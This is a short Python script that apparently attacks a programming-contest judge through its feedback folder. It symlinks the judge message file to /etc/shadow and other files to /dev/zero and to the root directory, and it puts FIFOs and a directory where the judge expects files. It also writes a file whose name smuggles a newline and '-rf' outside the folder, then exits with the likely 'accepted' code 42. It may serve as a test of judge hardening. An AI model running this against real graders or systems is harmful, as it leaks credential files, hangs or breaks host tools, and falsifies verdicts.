# What whoever reads the feedback folder on the host by its path would fall for.
import os, sys
folder = sys.argv[3]
os.symlink("/etc/shadow", f"{folder}/judgemessage.txt")
os.mkfifo(f"{folder}/teammessage.txt")
os.mkdir(f"{folder}/score.txt")
os.symlink("/dev/zero", f"{folder}/nextpass.in")
os.symlink("/", f"{folder}/root")
os.mkfifo(f"{folder}/score_multiplier.txt")
open(f"{folder}/../x\n-rf", "w").close()
sys.exit(42)
